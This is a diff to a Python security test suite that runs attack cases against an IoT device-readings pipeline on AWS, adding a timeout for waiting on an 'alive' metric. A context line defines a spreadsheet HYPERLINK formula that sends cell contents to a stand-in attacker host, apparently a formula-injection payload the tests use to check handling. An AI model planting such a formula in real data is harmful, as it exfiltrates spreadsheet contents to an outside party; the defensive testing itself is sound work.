@@ -14,9 +14,12 @@ from botocore.config import Config
 from botocore.exceptions import ClientError
 
 from deploy.attack.case import Attack, case
+from deploy.verify.journey import Unexpected
 from deploy.verify.pipeline import Pipeline
 from deploy.verify.removal import delete_item
 
+_STOPPED = 120.0
+"""Seconds after which the stream counts as stopped. A reading needs a few."""
 _FORMULA = '=HYPERLINK("https://attacker.example/?"&A1)'
 
 
@@ -49,7 +52,10 @@ class Devices(Attack, Pipeline):
         ):
             self._send(payload)
         self._publish(self._reading("alive", 1.0, "", 12))
-        self._until_known("alive")
+        try:
+            self._until_known("alive", _STOPPED)
+        except Unexpected as unexpected:
+            self.without(True, unexpected)
 
     @case
     def a_reading_without_a_certificate(self) -> None:
@@ -90,9 +96,10 @@ class Devices(Attack, Pipeline):
         topic = f"{self.outputs()['DeviceTopics']}/{self._device}/readings"
         self.client("iot-data").publish(topic=topic, qos=1, payload=payload)
 
-    def _until_known(self, metric: str) -> None:
+    def _until_known(self, metric: str, longest: float | None = None) -> None:
         self.until(
             lambda: self.reader.get(f"/devices/{self._device}"),
             lambda answer: answer.status == 200 and metric in answer.json["metrics"],
             f"the metric {metric}",
+            longest,
         )
